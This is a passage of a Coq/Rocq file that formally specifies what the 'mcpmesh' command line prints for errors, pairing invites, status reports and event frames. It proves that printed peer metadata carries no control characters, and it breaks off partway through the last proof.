(* ===== verification/Render.v ===== *)
(** * What the command line prints

    [cli/src/render.rs] and [cli/src/json.rs]: the lines of every verb and its machine face, the
    status report, the event stream, and the rendering of errors. A line is a text without its
    newline. *)
From stdpp Require Import base list strings pretty gmap.
From Stdlib Require Import ZArith Lia Strings.Byte.
From S2P Require Import Prelude Bytes Digits Json Externals AuditFiles Auditor Paths Rendezvous Reach Minting Peers Rosters Status Session BlobGate Control Proxy.

Local Open Scope Z_scope.

Definition SERVE_EXAMPLE : string := "mcpmesh serve notes -- npx -y @modelcontextprotocol/server-filesystem ~/notes".

(** ** Text *)
Definition newline_text : string := from_bytes [x0a].
Fixpoint find_sub (pat b : bytes) : option (bytes * bytes) :=
  if bool_decide (take (length pat) b = pat) then Some ([], drop (length pat) b)
  else match b with [] => None | c :: b => '(l, r) ← find_sub pat b; Some (c :: l, r) end.
(** [str::split_once] and [str::contains] of a pattern that is not empty. *)
Definition split_at_first (pat s : string) : option (string * string) :=
  '(l, r) ← find_sub (as_bytes pat) (as_bytes s); Some (from_bytes l, from_bytes r).
Definition contains (pat s : string) : bool := bool_decide (is_Some (find_sub (as_bytes pat) (as_bytes s))).
Definition trim_end (s : string) : string :=
  from_bytes (reverse (drop_all (String.length s) (reverse <$> whitespace) (reverse (as_bytes s)))).

(** ** Errors *)
Definition method_byte (c : byte) : bool := (byte_val c =? 95) || ((97 <=? byte_val c) && (byte_val c <=? 122)).
Definition strip_wire_framing (message : string) : string :=
  match split_at_first " failed: " message with
  | Some (method, rest) =>
      if negb (bool_decide (method = ""%string)) && negb (bool_decide (rest = ""%string)) && forallb method_byte (as_bytes method)
      then rest else message
  | None => message
  end.

Definition control_error_lines (error : Value) : list string :=
  let message := strip_wire_framing (default ""%string (value_get "message" error ≫= as_str)) in
  if bool_decide ((value_get "code" error ≫= as_i64) = Some ERR_SELF_ENROLL_NOT_OFFERED) then
    ["Error: that is a device-enrollment link, not a pairing invite.";
     "Redeeming it makes THIS machine another device of that person's identity — everyone who trusts them starts admitting it, and it cannot be undone without rotating their key.";
     "(If that is what you meant — it is your own second machine, and your other machine minted the link with `mcpmesh invite --as-self` — re-run with `--as-self`. Otherwise ask them for an ordinary invite.)"]%string
  else if contains "dial the inviter" message then
    ["Error: could not reach the inviter's machine — are they online?";
     "(You cannot redeem your own invite on the machine that minted it — run `mcpmesh pair` on the other machine.)"]%string
  else if bool_decide (message = ""%string) then
    ["Error: the daemon reported an unexpected error — run 'mcpmesh doctor' to diagnose"]%string
  else ["Error: " +:+ message]%string.

(** An error and its causes, each with its text and, when it is the daemon's answer, the error
    object. *)
Record Cause := { ca_text : string; ca_api : option Value }.
Definition error_lines (err : Cause) (causes : list Cause) : list string :=
  match omap ca_api (err :: causes) with
  | value :: _ => control_error_lines value
  | [] =>
      ("Error: " +:+ ca_text err)%string ::
      match causes with [] => [] | _ => [""; "Caused by:"]%string ++ ((fun c => "    " +:+ ca_text c)%string <$> causes) end
  end.
Definition error_json (err : Cause) (causes : list Cause) : Value :=
  let code := head (omap (fun c => v ← ca_api c; value_get "code" v ≫= as_i64) (err :: causes)) in
  let joined := String.concat newline_text (error_lines err causes) in
  VObject [("error"%string, VObject [("code"%string, match code with Some c => VNumber (NInt c) | None => VNull end);
                                     ("message"%string, VString (default joined (strip_prefix "Error: " joined)))])].

(** The other values of [--json]; a result type of the API is its serialized object. *)
Definition texts (l : list string) : Value := VArray (VString <$> l).
Definition status_json (fingerprint api api_version : string) (api_minor : Z) (stack_version : string) (status : Map) : Value :=
  VObject (map_insert "device_fingerprint" (VString fingerprint)
    (map_insert "stack_version" (VString stack_version)
      (map_insert "api_minor" (VNumber (NInt api_minor))
        (map_insert "api_version" (VString api_version) (map_insert "api" (VString api) status))))).
Definition invite_json (invite : Map) (services : list string) : Value := VObject (map_insert "services" (texts services) invite).
Definition mount_target (peer service : string) : string := peer +:+ "/" +:+ service.
Definition pair_json (result : Map) (peer_nickname : string) (services : list string) : Value :=
  VObject (map_insert "mounts" (texts (mount_target peer_nickname <$> services)) result).
Definition unpair_json (nickname : string) : Value := VObject [("removed"%string, VString nickname)].
Definition serve_json (name : string) : Value := VObject [("service"%string, VString name); ("serving"%string, VBool true)].
Definition up_json (socket : string) : Value := VObject [("socket"%string, VString socket)].
Definition claude_code_command (peer service : string) : string :=
  "claude mcp add " +:+ peer +:+ "-" +:+ service +:+ " -- mcpmesh connect " +:+ peer +:+ "/" +:+ service.
Definition use_json (peer : string) (services : list string) : Value :=
  VObject [("peer", VString peer);
           ("mounts", VArray ((fun s =>
              VObject [("target", VString (mount_target peer s)); ("claude_code_command", VString (claude_code_command peer s));
                       ("mcp_server", VObject [("name", VString (peer +:+ "-" +:+ s)); ("command", VString "mcpmesh");
                                               ("args", texts ["connect"; mount_target peer s])])]) <$> services))]%string.

(** ** Times *)
Definition friendly_expiry (expires_at_epoch now : Z) : string :=
  let remaining := Z.max 0 (expires_at_epoch - now) in
  if remaining <? 60 then "soon"
  else if remaining <? 3600 then "in " +:+ pretty ((remaining + 30) / 60) +:+ "m"
  else "in " +:+ pretty (((remaining + 1800) mod 2 ^ 64) / 3600) +:+ "h".

Definition friendly_age (epoch now : Z) : string :=
  let elapsed := Z.max 0 (now - epoch) in
  if elapsed <? 60 then "just now"
  else if elapsed <? 3600 then pretty (elapsed / 60) +:+ "m ago"
  else if elapsed <? 24 * 3600 then pretty (elapsed / 3600) +:+ "h ago"
  else pretty (elapsed / (24 * 3600)) +:+ "d ago".

Definition humanise_secs (s : Z) : string :=
  if s <? 90 then pretty s +:+ "s"
  else if s <? 5400 then pretty (s / 60) +:+ "m"
  else pretty (s / 3600) +:+ "h" +:+ pretty (s mod 3600 / 60) +:+ "m".

(** ** Pairing *)
Definition invite_lines (invite : InviteResult) (services : list string) (now : Z) : list string :=
  let n := ir_uses_remaining invite in
  let expiry := friendly_expiry (ir_expires_at_epoch invite) now in
  [(if (n =? 1)%Z then "One-time invite (expires " +:+ expiry +:+ "). Share it out-of-band:"
    else "Invite for " +:+ pretty n +:+ " people (expires " +:+ expiry +:+ "). Anyone holding it can redeem it " +:+ pretty n +:+ " times — share it out-of-band:");
   "  " +:+ ir_invite_line invite;
   "Whoever redeems it can access: " +:+ String.concat ", " services;
   "";
   (if (n =? 1)%Z then "Next: send them that line over any channel. They redeem it with `mcpmesh pair <line>`,"
    else "Next: send that line to each of them. Each redeems it with `mcpmesh pair <line>`,");
   "which prints a short safety code — run `mcpmesh status` to see yours and confirm the two";
   "match, out loud. Same words = the pairing is authentic."]%string ++
  (if 1 <? n then ["Every redemption gets its own code — compare each one separately."]%string else []).

Section pairing.
Context `{J : SerdeJson} (desktop_config : string).
Definition pair_lines (r : PairResult) : list string :=
  let peer := pr_peer_nickname r in
  let sas := default ""%string (pr_sas_code r) in
  if pr_enrolled_as_self r then
    ["Enrolled this device — code: " +:+ sas;
     "Next: confirm this code matches what your other device shows, out loud. Same words = the enrollment is authentic — it signs an identity binding for whichever device redeemed, so this check matters more here than in an ordinary pairing.";
     "";
     "Both devices now present one identity, so peers see one person.";
     "Nothing was granted, and neither device is the other's contact."]%string
  else
    ["Paired with " +:+ peer +:+ " — code: " +:+ sas;
     "Next: confirm this code matches what " +:+ peer +:+ " sees, out loud (they see it under `mcpmesh status`). Same words = the pairing is authentic."]%string ++
    match pr_services r with
    | [] => []
    | services =>
        [""; "You can now use: " +:+ String.concat ", " ((fun s => peer +:+ "/" +:+ s)%string <$> services); ""]%string ++
        client_instruction_lines desktop_config peer services
    end.
End pairing.

Definition recent_pairing_line (now : Z) (p : RecentPairing) : string :=
  "  " +:+ rp_peer_nickname p +:+ " · code: " +:+ default ""%string (rp_sas_code p) +:+ " · " +:+ friendly_age (rp_paired_at_epoch p) now.
Definition recent_pairing_lines (pairings : list RecentPairing) (now : Z) : list string := recent_pairing_line now <$> pairings.

(** ** Metadata of a peer

    On the UTF-8 bytes: control characters are taken out first, then 48 characters are kept. *)
Fixpoint strip_control (b : bytes) : bytes :=
  match b with
  | [] => []
  | c :: b =>
      if (byte_val c <? 32) || (byte_val c =? 127) then strip_control b
      else if byte_val c =? 0xc2 then
        match b with
        | d :: b' => if byte_val d <? 0xa0 then strip_control b' else c :: d :: strip_control b'
        | [] => [c]
        end
      else c :: strip_control b
  end.
Definition starts_char (c : byte) : bool := negb ((0x80 <=? byte_val c) && (byte_val c <? 0xc0)).
Fixpoint take_chars (n : nat) (b : bytes) : bytes :=
  match b with
  | [] => []
  | c :: b =>
      if starts_char c then match n with O => [] | S n => c :: take_chars n b end
      else c :: take_chars n b
  end.
Definition META_CHARS : nat := 48.
Definition ellipsis : bytes := as_bytes "…".
Definition sanitize_meta (meta : string) : string :=
  let cleaned := strip_control (as_bytes meta) in
  if char_count cleaned <=? Z.of_nat META_CHARS then from_bytes cleaned
  else from_bytes (take_chars META_CHARS cleaned ++ ellipsis).
Definition app_suffix (meta : string) : string := if bool_decide (meta = ""%string) then "" else " · app: " +:+ sanitize_meta meta.

(** ** The status report *)
Definition reachability_line (r : PeerReachability) : string :=
  let label := match pr_age_secs r with None => "checking…" | Some _ => if pr_reachable r then "online" else "offline" end in
  let line := match pr_rtt_ms r with
              | Some ms => if pr_reachable r then "  " +:+ pr_name r +:+ " · " +:+ label +:+ " · " +:+ pretty ms +:+ "ms" else "  " +:+ pr_name r +:+ " · " +:+ label
              | None => "  " +:+ pr_name r +:+ " · " +:+ label
              end in
  line +:+
  (if pr_reachable r then match pr_path r with Direct => " · direct" | Relayed _ => " · relay" | Unknown => " · path unknown" end else "") +:+
  app_suffix (pr_meta r).
Definition reachability_lines (l : list PeerReachability) : list string := reachability_line <$> l.

Definition presence_line (p : PresencePeer) : string :=
  let who := if bool_decide (pp_display_name p = ""%string) then pp_user_id p else pp_display_name p +:+ " (" +:+ pp_user_id p +:+ ")" in
  "  " +:+ who +:+ " · " +:+ pp_device_label p +:+ " · " +:+ pp_role p +:+ " · " +:+ (if pp_online p then "online" else "offline") +:+ app_suffix (pp_meta p).
Definition presence_lines (l : list PresencePeer) : list string := presence_line <$> l.

Definition roster_status_lines (roster : RosterStatus) (has_roster_url : bool) : list string :=
  ["roster: org " +:+ rs_org_id roster +:+ " · serial " +:+ pretty (rs_serial roster) +:+ " · " +:+ rs_state roster]%string ++
  (if bool_decide (rs_org_root_fingerprint roster = ""%string) then []
   else ["  org root: " +:+ rs_org_root_fingerprint roster +:+ " (confirm out-of-band)"]%string) ++
  (if has_roster_url then []
   else ["hint: no roster URL configured — this node degrades after max_staleness with no way to re-confirm currency; set [roster].url"]%string).

Definition roster_install_line (org_id : string) (serial severed : Z) : string :=
  "Installed roster for org '" +:+ org_id +:+ "' (serial " +:+ pretty serial +:+ "). Severed " +:+ pretty severed +:+ " live " +:+
  (if (severed =? 1)%Z then "session" else "sessions") +:+ ".".

Definition use_target_error (peer service : string) (peers : list PeerInfo) : option string :=
  match find_first (fun p => bool_decide (pi_name p = peer)) peers with
  | None =>
      Some match pi_name <$> peers with
           | [] => "no paired peer named '" +:+ peer +:+ "' — nobody is paired yet; redeem an invite with 'mcpmesh pair <invite>'"
           | names => "no paired peer named '" +:+ peer +:+ "' — your peers: " +:+ String.concat ", " names +:+ " (see 'mcpmesh status')"
           end
  | Some known =>
      if bool_decide (service ∈ pi_services known) then None
      else Some match pi_services known with
                | [] => "'" +:+ peer +:+ "' does not share any services with you yet — ask them to send a new invite naming one"
                | services => "'" +:+ peer +:+ "' does not share a service named '" +:+ service +:+ "' — they share: " +:+ String.concat ", " services +:+ " (see 'mcpmesh status')"
                end
  end.

(** The parts of a status that are printed. *)
Record StatusView := {
  sv_self_user_id : option string; sv_services : list ServiceInfo; sv_peers : list PeerInfo; sv_reachability : list PeerReachability;
  sv_recent_pairings : list RecentPairing; sv_roster : option RosterStatus; sv_presence : list PresencePeer }.

Definition next_steps_lines (s : StatusView) : list string :=
  let steps :=
    match head (omap (fun p => pair (pi_name p) <$> head (pi_services p)) (sv_peers s)) with
    | Some (peer, service) =>
        ["  Use " +:+ peer +:+ "/" +:+ service +:+ " from your AI client: `mcpmesh use " +:+ peer +:+ "/" +:+ service +:+ "`"]%string
    | None => []
    end ++
    match sv_services s with
    | [] => ["  Share one of your MCP servers: `mcpmesh serve <name> -- <command that runs it>`";
             "    No MCP server yet? Share a folder: `" +:+ SERVE_EXAMPLE +:+ "`"]%string
    | services =>
        match find_first (fun i => bool_decide (si_allow i = [])) services with
        | Some svc => ["  Nobody can reach '" +:+ si_name svc +:+ "' yet: `mcpmesh invite " +:+ si_name svc +:+ "`"]%string
        | None => []
        end
    end ++
    match sv_peers s with [] => ["  Someone sent you an invite? `mcpmesh pair mcpmesh-invite:…`"]%string | _ => [] end in
  match steps with [] => [] | _ => "next steps:"%string :: steps end.

Definition backend_kind_label (socket : bool) : string := if socket then "socket" else "run".
Definition allowed_text (i : ServiceInfo) : string :=
  match si_allow i with
  | [] => "no one yet"
  | allow =>
      String.concat ", "
        match si_allow_display i with
        | [] => (fun p => if starts_with "eid:" p || starts_with "b64u:" p then "paired-peer"%string else p) <$> allow
        | display => display
        end
  end.
Definition service_line (i : ServiceInfo) : string :=
  "  " +:+ si_name i +:+ " · " +:+ backend_kind_label (si_socket i) +:+ " · allowed: " +:+ allowed_text i.
Definition peer_line (p : PeerInfo) : string :=
  "  " +:+ pi_name p +:+ " · services: " +:+ (match pi_services p with [] => "none" | l => String.concat ", " l end) +:+
  match pi_user_id p with Some u => " · " +:+ u | None => "" end.

(** A block after a blank line, left out when it has no lines. *)
Definition block (title : list string) (lines : list string) : list string :=
  match lines with [] => [] | _ => ""%string :: title ++ lines end.
Definition render_status (fingerprint api api_version stack_version : string) (s : StatusView) (has_roster_url : bool) (now : Z) : list string :=
  [api +:+ " v" +:+ api_version +:+ " · stack " +:+ stack_version; "device " +:+ fingerprint]%string ++
  (match sv_self_user_id s with Some u => ["identity " +:+ u]%string | None => [] end) ++
  ""%string :: (match sv_services s with [] => ["no services configured"]%string | l => "serving:"%string :: (service_line <$> l) end) ++
  ""%string :: (match sv_peers s with [] => ["no peers yet"]%string | l => "peers:"%string :: (peer_line <$> l) end) ++
  block ["reachability:"]%string (reachability_lines (sv_reachability s)) ++
  block ["recent pairings (confirm the code with the other side):"]%string (recent_pairing_lines (sv_recent_pairings s) now) ++
  block [] (match sv_roster s with Some r => roster_status_lines r has_roster_url | None => [] end) ++
  block ["reachable:"]%string (presence_lines (sv_presence s)) ++
  block [] (next_steps_lines s).

(** ** The event stream *)
Definition kind_label (k : AuditKind) : string :=
  match k with
  | SessionOpen => "session_open" | SessionClose => "session_close" | AuditFiles.Request => "request" | AuditFiles.BlobFetch => "blob_fetch"
  | Trust => "trust"
  end.
Inductive Frame :=
| FSnapshot (active_sessions : list ActiveSession) (reachability : list PeerReachability) (self_network : option SelfNetwork)
| FEvent (record : AuditRecord)
| FReachability (peer : PeerReachability)
| FSelfNetwork (self_network : SelfNetwork)
| FResumed (suspended_secs : Z)
| FLagged (dropped : Z)
| FBlobTransfer (t : BlobTransfer)
| FOther.

Definition event_line (r : AuditRecord) : string :=
  let peer := match ar_peer r with Some p => p +:+ " " | None => "" end in
  let service := match ar_service r with Some s => "→ " +:+ s | None => "" end in
  let status := match ar_status r with Some s => " (" +:+ s +:+ ")" | None => "" end in
  trim_end ("[" +:+ ar_ts r +:+ "] " +:+ kind_label (ar_kind r) +:+ " " +:+ peer +:+ service) +:+ status.

Definition state_text (s : TransferState) : string :=
  match s with TStarted => "started" | TProgress => "progress" | TCompleted => "completed" | TAborted => "aborted" end.
Definition u64_saturating_mul (a b : Z) : Z := Z.min (a * b) u64_max.
Definition transfer_line (t : BlobTransfer) : string :=
  let dir := match bt_direction t with Serve => "serving" | Fetch => "fetching" end in
  let short := from_bytes (take_chars 12 (as_bytes (bt_hash t))) in
  let bytes_only := pretty (bt_done t) +:+ " bytes" in
  let amount := match bt_total t with
                | Some total =>
                    if 0 <? total then pretty (bt_done t) +:+ "/" +:+ pretty total +:+ " (" +:+ pretty (u64_saturating_mul (bt_done t) 100 / total) +:+ "%)"
                    else bytes_only
                | None => bytes_only
                end in
  "blob " +:+ dir +:+ " " +:+ short +:+ " " +:+ state_text (bt_state t) +:+ " — " +:+ amount +:+ match bt_peer t with Some p => " to " +:+ p | None => "" end.

Definition render_frame (f : Frame) : string :=
  match f with
  | FSnapshot sessions reach net =>
      "snapshot: " +:+ pretty (length sessions) +:+ " active session(s), " +:+ pretty (length reach) +:+ " peer(s) known" +:+
      match net with
      | Some n => if sn_online n then " — online" else match sn_relays n with [] => "" | _ => " — no relay connection" end
      | None => ""
      end
  | FEvent r => event_line r
  | FReachability p => "[reachability] " +:+ pr_name p +:+ " is now " +:+ (if pr_reachable p then "online" else "offline")
  | FSelfNetwork n => if sn_online n then "[self] online via relay" else "[self] relay connection lost — LAN/direct paths only"
  | FResumed secs => "resumed — this machine was suspended for " +:+ humanise_secs secs +:+ "; held sessions may be dead"
  | FLagged dropped => "(lagged " +:+ pretty dropped +:+ " events — reconnect for a fresh snapshot)"
  | FBlobTransfer t => transfer_line t
  | FOther => "[unknown frame]"
  end.

(** ** Lemmas *)
Lemma find_sub_clean c pat l r : c ∉ l -> find_sub (c :: pat) (l ++ c :: (pat ++ r)) = Some (l, r).
Proof.
  induction l as [|x l IH]; intros Hn.
  - cbn [app]. assert (Ht : take (length (c :: pat)) (c :: pat ++ r) = c :: pat) by (cbn; by rewrite take_app_length).
    cbn [find_sub]. rewrite Ht, bool_decide_eq_true_2 by done. cbn. by rewrite drop_app_length.
  - apply not_elem_of_cons in Hn as [Hx Hn]. cbn [app find_sub]. rewrite bool_decide_eq_false_2 by (cbn; intros [= ? ?]; by subst).
    by rewrite IH.
Qed.

Definition framing : string := " failed: ".
Lemma method_names_plain : forallb (fun nm : string * Method => negb (bool_decide (nm.1 = ""%string)) && forallb method_byte (as_bytes nm.1)) methods = true.
Proof. vm_compute. reflexivity. Qed.

Lemma method_plain name m : find_method name = Some m -> name <> ""%string /\ forallb method_byte (as_bytes name) = true.
Proof.
  unfold find_method. intros ([n m'] & Hf & _)%fmap_Some. apply find_first_Some in Hf as [Hin Heq%String.eqb_eq]. cbn [fst] in Heq. subst n.
  apply list_elem_of_In in Hin. pose proof (proj1 (forallb_forall _ _) method_names_plain _ Hin) as H. cbn [fst] in H.
  apply andb_true_iff in H as [Hn Hb]. split; [|done]. by apply negb_true_iff, bool_decide_eq_false in Hn.
Qed.

Lemma space_not_method b : forallb method_byte b = true -> x20 ∉ b.
Proof. intros H Hin. apply list_elem_of_In in Hin. by apply (proj1 (forallb_forall _ _) H) in Hin. Qed.

(** What the server put before a verb's message is taken off again. *)
Lemma framing_stripped name m msg : find_method name = Some m -> msg <> ""%string -> strip_wire_framing (name +:+ framing +:+ msg) = msg.
Proof.
  intros Hf Hmsg. destruct (method_plain name m Hf) as [Hne Hb]. unfold strip_wire_framing, split_at_first. rewrite !as_bytes_app.
  change (as_bytes framing) with (x20 :: as_bytes "failed: "). change (as_bytes " failed: ") with (x20 :: as_bytes "failed: ").
  cbn [app]. rewrite find_sub_clean by (by apply space_not_method). cbn [mbind option_bind]. rewrite !from_as_bytes, Hb.
  by rewrite !bool_decide_eq_false_2.
Qed.

Lemma control_lines_error error : exists line rest, control_error_lines error = ("Error: " +:+ line)%string :: rest.
Proof.
  unfold control_error_lines. destruct (bool_decide _); [by exists "that is a device-enrollment link, not a pairing invite."%string; eexists|].
  destruct (contains _ _); [by exists "could not reach the inviter's machine — are they online?"%string; eexists|].
  case_bool_decide; [by exists "the daemon reported an unexpected error — run 'mcpmesh doctor' to diagnose"%string; eexists|]. by eexists _, _.
Qed.


Section errors.
Context `{P : ParamsCodec}.

(** An error of the daemon's is shown as a sentence, never as the object that carried it, from
    wherever in the chain of causes it is; a verb's own message comes out exactly as the verb
    gave it, unless it is one of the two that are explained instead; and the JSON error has
    the code the answer had. *)
Theorem daemon_error_shown h req err cause causes :
  value_get "error" (handle_request h req) = Some err -> head (omap ca_api (cause :: causes)) = Some err ->
  (exists line rest, error_lines cause causes = ("Error: " +:+ line)%string :: rest) /\
  (forall name m e, method_of req = Some name -> find_method name = Some m -> shape m = WithParams ->
     (p ← params_of m (params_in req); h_run h m p) = Err e -> ce_msg e <> ""%string -> contains "dial the inviter" (ce_msg e) = false ->
     in_i64 (error_code (ce_kind e)) -> error_code (ce_kind e) <> ERR_SELF_ENROLL_NOT_OFFERED ->
     error_lines cause causes = ["Error: " +:+ ce_msg e]%string /\
     value_get "error" (error_json cause causes) =
       Some (VObject [("code"%string, VNumber (NInt (error_code (ce_kind e)))); ("message"%string, VString (ce_msg e))])).
Proof.
  intros Herr Hc. assert (Hl : error_lines cause causes = control_error_lines err).
  { unfold error_lines. destruct (omap ca_api (cause :: causes)) as [|v l]; [done|]. by injection Hc as ->. }
  split; [rewrite Hl; apply control_lines_error|]. intros name m e Hm Hf Hs He Hne Hno Hi Hcode.
  assert (Hframe : err = VObject [("code"%string, VNumber (NInt (error_code (ce_kind e)))); ("message"%string, VString (name +:+ framing +:+ ce_msg e))]).
  { unfold handle_request, run_method in Herr. rewrite Hm, Hf, Hs, He in Herr. unfold finish in Herr. destruct (answers_unit m); cbn in Herr; by injection Herr as <-. }
  assert (Hcd : (value_get "code" err ≫= as_i64) = Some (error_code (ce_kind e))).
  { rewrite Hframe. cbn. destruct Hi. by rewrite (proj2 (Z.leb_le _ _)), (proj2 (Z.leb_le _ _)) by done. }
  assert (Hlines : control_error_lines err = ["Error: " +:+ ce_msg e]%string).
  { unfold control_error_lines. rewrite Hcd, bool_decide_eq_false_2 by congruence.
    replace (default ""%string (value_get "message" err ≫= as_str)) with (name +:+ framing +:+ ce_msg e)%string by (by rewrite Hframe).
    by rewrite (framing_stripped name m), Hno, bool_decide_eq_false_2 by done. }
  rewrite Hl, Hlines. split; [done|]. unfold error_json. rewrite Hl, Hlines. cbn [String.concat]. rewrite strip_prefix_app.
  assert (Hh : head (omap (fun c => v ← ca_api c; value_get "code" v ≫= as_i64) (cause :: causes)) = Some (error_code (ce_kind e))).
  { clear Hl Hlines. revert Hc. generalize (cause :: causes). induction l as [|c l IH]; cbn; [done|]. destruct (ca_api c) as [v|]; cbn; [|apply IH].
    intros [= ->]. by rewrite Hcd. }
  by rewrite Hh.
Qed.
End errors.

(** ** Metadata *)
Lemma kept_byte c b : 128 <= byte_val c -> byte_val c <> 0xc2 ->
  strip_control (c :: b) = c :: strip_control b /\ (forall l, has_control (c :: l) = has_control l).
Proof.
  intros Hc Hne. cbn [strip_control has_control]. destruct (Z.ltb_spec (byte_val c) 32); [lia|]. destruct (Z.eqb_spec (byte_val c) 127); [lia|].
  destruct (Z.eqb_spec (byte_val c) 0xc2); [lia|]. by split.
Qed.
Lemma kept_pair c d b : byte_val c = 0xc2 -> 0xa0 <= byte_val d < 0xc0 ->
  strip_control (c :: d :: b) = c :: d :: strip_control b /\ (forall l, has_control (c :: d :: l) = has_control l).
Proof.
  intros Hc Hd. split.
  - cbn [strip_control]. rewrite Hc. cbn. destruct (Z.ltb_spec (byte_val d) 0xa0); [lia|done].
  - intros l. destruct (kept_byte d l) as [_ H]; [lia..|]. cbn [has_control] in H |- *. rewrite Hc, H. cbn.
    by destruct (Z.ltb_spec (byte_val d) 0xa0); [lia|].
Qed.

Lemma between_spec lo hi c : between lo hi c = true <-> lo <= byte_val c <= hi.
Proof. unfold between. by rewrite andb_true_iff, !Z.leb_le. Qed.

(** A step of the decoder: an ASCII byte, a pair of the first block, or bytes that are no
    controls. *)
Lemma utf8_step c b : utf8 (c :: b) = true ->
  (byte_val c < 128 /\ utf8 b = true) \/
  (exists d b', b = d :: b' /\ byte_val c = 0xc2 /\ 0x80 <= byte_val d < 0xc0 /\ utf8 b' = true) \/
  (exists l b', b = l ++ b' /\ (l <> []) /\ Forall (fun x => 128 <= byte_val x /\ byte_val x <> 0xc2) (c :: l) /\ utf8 b' = true).
Proof.
  intros H. assert (Hc := byte_val_bound c). cbn [utf8] in H. destruct (between 0 0x7f c) eqn:H0.
  { left. apply between_spec in H0. split; [lia|done]. }
  assert (128 <= byte_val c) by (apply not_true_iff_false in H0; rewrite between_spec in H0; lia).
  right. destruct b as [|d b]; [done|]. unfold continuation in H. destruct (between 0xc2 0xdf c) eqn:H2.
  { apply between_spec in H2. apply andb_true_iff in H as [Hd%between_spec Hb]. destruct (decide (byte_val c = 0xc2)); [left; exists d, b; split_and!; try done; lia|].
    right. exists [d], b. split; [done|]. split; [done|]. split; [|done]. repeat constructor; lia. }
  right. destruct b as [|e b]; [done|]. destruct (_ || _) eqn:H3 in H.
  { apply andb_true_iff in H as [He%between_spec Hb]. exists [d; e], b. split; [done|]. split; [done|]. split; [|done].
    repeat rewrite orb_true_iff in H3. repeat rewrite andb_true_iff in H3. repeat rewrite orb_true_iff in H3. repeat rewrite between_spec in H3.
    repeat constructor; lia. }
  destruct b as [|f b]; [done|]. repeat rewrite andb_true_iff in H. repeat rewrite orb_true_iff in H. repeat rewrite andb_true_iff in H. repeat rewrite between_spec in H.
  destruct H as [[[Hd He] Hf] Hb]. exists [d; e; f], b. split; [done|]. split; [done|]. split; [|done]. repeat constructor; lia.
Qed.

Lemma kept_bytes l b : Forall (fun x => 128 <= byte_val x /\ byte_val x <> 0xc2) l ->
  strip_control (l ++ b) = l ++ strip_control b /\ (forall r, has_control (l ++ r) = has_control r).
Proof.
  induction 1 as [|c l [Hc Hne] _ [IH1 IH2]]; [done|]. cbn [app]. destruct (kept_byte c (l ++ b) Hc Hne) as [-> Hh]. split; [by rewrite IH1|].
  intros r. by rewrite Hh, IH2.
Qed.

Lemma strip_control_clean b : utf8 b = true -> has_control (strip_control b) = false.
Proof.
  remember (length b) as n eqn:Hn. revert b Hn. induction n as [n IH] using lt_wf_ind. intros b -> H. destruct b as [|c b]; [done|].
  destruct (utf8_step c b H) as [[Hc Hb]|[(d & b' & -> & Hc & Hd & Hb)|(l & b' & -> & _ & Hl & Hb)]].
  - assert (Hrec : has_control (strip_control b) = false) by (eapply IH; [|reflexivity|done]; cbn; lia).
    cbn [strip_control]. destruct ((byte_val c <? 32) || (byte_val c =? 127)) eqn:Hctl; [done|]. destruct (Z.eqb_spec (byte_val c) 0xc2); [lia|].
    cbn [has_control]. apply orb_false_iff in Hctl as [-> ->]. destruct (Z.eqb_spec (byte_val c) 0xc2); [lia|]. done.
  - assert (Hrec : has_control (strip_control b') = false) by (eapply IH; [|reflexivity|done]; cbn; lia).
    destruct (Z.lt_ge_cases (byte_val d) 0xa0).
    + cbn [strip_control]. rewrite Hc. cbn. destruct (Z.ltb_spec (byte_val d) 0xa0); [done|lia].
    + destruct (kept_pair c d b' Hc) as [-> Hh]; [lia|]. by rewrite Hh.
  - assert (Hrec : has_control (strip_control b') = false) by (eapply IH; [|reflexivity|done]; cbn; rewrite length_app; lia).
    destruct (kept_bytes (c :: l) b' Hl) as [Hs Hh]. specialize (Hh (strip_control b')). cbn [app] in Hs, Hh. by rewrite Hs, Hh.
Qed.

Lemma take_chars_clean n b x :
  has_control b = false -> has_control x = false -> (exists c x', x = c :: x' /\ 0xa0 <= byte_val c) -> has_control (take_chars n b ++ x) = false.
Proof.
  intros Hb Hx (e & x' & Hxe & He). revert n Hb. induction b as [|c b IH]; intros n Hb; [done|]. cbn [has_control] in Hb.
  apply orb_false_iff in Hb as [Hc Hb].
  assert (Hcons : forall m, has_control (c :: take_chars m b ++ x) = false).
  { intros m. cbn [has_control]. rewrite (IH m Hb), orb_false_r. apply orb_false_iff in Hc as [Hc Hd]. rewrite Hc. cbn [orb].
    destruct (byte_val c =? 0xc2); [|done]. cbn [andb] in *.
    assert (Hhead : match take_chars m b ++ x with d :: _ => 0xa0 <= byte_val d | [] => True end).
    { rewrite Hxe. destruct b as [|d b]; [done|]. apply Z.ltb_ge in Hd. cbn [take_chars]. destruct (starts_char d); [destruct m|]; done. }
    destruct (take_chars m b ++ x) as [|d l]; [done|]. by apply Z.ltb_ge. }
  cbn [take_chars]. destruct (starts_char c); [destruct n as [|n]; [done|apply Hcons]|apply Hcons].
Qed.

Lemma char_count_app a b : char_count (a ++ b) = char_count a + char_count b.
Proof. unfold char_count. rewrite filter_app, length_app. lia. Qed.
Lemma char_count_cons c b : char_count (c :: b) = (if starts_char c then 1 else 0) + char_count b.
Proof.
  change (c :: b) with ([c] ++ b). rewrite char_count_app. f_equal. unfold char_count, starts_char. rewrite filter_cons, filter_nil.
  case_decide as Hd; cbn [length]; destruct (Z.leb_spec 0x80 (byte_val c)), (Z.ltb_spec (byte_val c) 0xc0); cbn [andb negb]; lia.
Qed.
Lemma take_chars_count n b : char_count (take_chars n b) <= Z.of_nat n.
Proof.
  revert n. induction b as [|c b IH]; intros n; [change (char_count (take_chars n [])) with 0; lia|]. cbn [take_chars]. destruct (starts_char c) eqn:Hc.
  - destruct n as [|n]; [done|]. rewrite char_count_cons, Hc. specialize (IH n). lia.
  - rewrite char_count_cons, Hc. specialize (IH n). lia.
Qed.

(** Whatever metadata a peer sends, what is printed of it has no control character in it and is
    at most 48 characters and an ellipsis. *)
Theorem meta_inert meta :
  utf8 (as_bytes meta) = true ->
  has_control (as_bytes (sanitize_meta meta)) = false /\ char_count (as_bytes (sanitize_meta meta)) <= 49.
Proof.
  intros Hu%strip_control_clean. unfold sanitize_meta. destruct (Z.leb_spec (char_count (strip_control (as_bytes meta))) (Z.of_nat META_CHARS)) as [Hl|Hl]; rewrite as_from_bytes.
  - split; [done|]. unfold META_CHARS in Hl. lia.
  - split.
    + apply take_chars_clean; [done|done|]. by eexists _, _.
    + rewrite char_count_app. pose proof (take_chars_count META_CHARS (strip_control (as_bytes meta))) as Ht.
